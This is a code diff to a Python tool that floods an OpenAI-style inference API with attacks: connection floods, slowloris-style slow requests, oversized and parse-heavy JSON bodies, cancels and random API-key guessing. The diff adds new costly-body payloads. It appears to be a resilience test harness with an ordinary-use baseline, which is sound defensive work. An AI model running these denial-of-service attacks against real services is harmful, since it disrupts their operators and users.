@@ -12,12 +12,14 @@ import contextlib
 import ipaddress
 import json
 import logging
+import resource
 import secrets
 import socket
 import struct
 import time
 from collections import Counter, deque
 from collections.abc import Callable, Coroutine, Sequence
+from typing import NamedTuple
 from urllib.parse import urlsplit
 
 MOST_PER_S = 10_000
@@ -56,12 +58,10 @@ class Target:
         if ahead > 0.001:
             time.sleep(ahead)
 
-    def connect(self, receive_bytes: int | None = None) -> socket.socket | None:
+    def connect(self) -> socket.socket | None:
         """A connection that will end by a reset; ``None`` where none is to be had."""
         made = socket.socket()
         made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
-        if receive_bytes is not None:
-            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
         made.settimeout(0.5)
         try:
             made.connect(self.address)
@@ -201,15 +201,30 @@ def giant_bodies(target: Target) -> None:
         b'{"model":"small","max_tokens":1,"prompt":"a","x":[%b1]}' % (b"{}," * (filled // 3)),
         b'{"model":"small","max_tokens":1,"prompt":[%b""]}' % (b'"",' * (filled // 3)),
     )
-    asyncio.run(_all(target, lambda: _send_whole(target, shapes), 4))
+    asyncio.run(
+        _all(target, lambda: _send_whole(target, [("/v1/completions", shape) for shape in shapes]), 4)
+    )
 
 
-async def _send_whole(target: Target, shapes: Sequence[bytes]) -> None:
+def dear_bodies(target: Target) -> None:
+    """Send bodies of which little is charged and much is to be read, each within every limit of its own."""
+    empty = b"{},".join([b""] * 4000)
+    shapes = (
+        ("/v1/completions", b'{"model":"small","max_tokens":1,"prompt":"a","x":[%b{}]}' % (b"{}," * 80_000)),
+        ("/v1/completions", b'{"model":"small","max_tokens":1,"prompt":[%b1]}' % (b"1," * 30_000)),
+        ("/v1/chat/completions", b'{"model":"small","max_tokens":1,"messages":[%b{}]}' % empty),
+        ("/v1/chat/completions", b'{"model":"small","messages":[{"content":[%b{}]}]}' % empty),
+        ("/tokenize", b'{"model":"small","prompt":"%b"}' % (b"hello wor " * 6000)),
+    )
+    asyncio.run(_all(target, lambda: _send_whole(target, shapes), 16))
+
+
+async def _send_whole(target: Target, shapes: Sequence[tuple[str, bytes]]) -> None:
     while not target.is_over:
-        for body in shapes:
+        for path, body in shapes:
             reader, writer = await asyncio.open_connection(*target.address)
             with contextlib.closing(writer):
-                writer.write(target.head(len(body)))
+                writer.write(target.head(len(body), path=path))
                 with contextlib.suppress(ConnectionError):
                     for start in range(0, len(body), 1 << 18):
                         writer.write(memoryview(body)[start : start + (1 << 18)])
@@ -241,15 +256,26 @@ async def _all(target: Target, one: Callable[[], Coroutine[None, None, None]], c
 
 ORDINARY = "ordinary use"
 """No attack, but what others are compared with."""
-KINDS: dict[str, Callable[[Target], None]] = {
-    "connection flood": flood_connections,
-    "slow heads": slow_heads,
-    "slow bodies": slow_bodies,
-    "slow reads": slow_reads,
-    "giant bodies": giant_bodies,
-    "cancels": cancel,
-    "sheds": shed,
-    "random keys": guess_keys,
+
+
+class Attack(NamedTuple):
+    """One kind of attack."""
+
+    run: Callable[[Target], None]
+    least_per_s: float
+    """What it must have done, lest nobody was attacked."""
+
+
+KINDS = {
+    "connection flood": Attack(flood_connections, 500),
+    "slow heads": Attack(slow_heads, 20),
+    "slow bodies": Attack(slow_bodies, 20),
+    "slow reads": Attack(slow_reads, 1000),
+    "giant bodies": Attack(giant_bodies, 1),
+    "dear bodies": Attack(dear_bodies, 20),
+    "cancels": Attack(cancel, 500),
+    "sheds": Attack(shed, 100),
+    "random keys": Attack(guess_keys, 500),
 }
 
 
@@ -261,12 +287,15 @@ def main() -> None:
     parser.add_argument("--key", required=True)
     parser.add_argument("--seconds", type=float, default=20.0)
     arguments = parser.parse_args()
+    _, most_files = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
     try:
         target = Target(arguments.url, arguments.key, arguments.seconds)
     except ValueError as error:
         parser.error(str(error))
     logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # it tells of every connection that is cut
-    KINDS.get(arguments.kind, use)(target)
+    attack = KINDS[arguments.kind].run if arguments.kind in KINDS else use
+    attack(target)
     print(json.dumps(target.did))
 
 
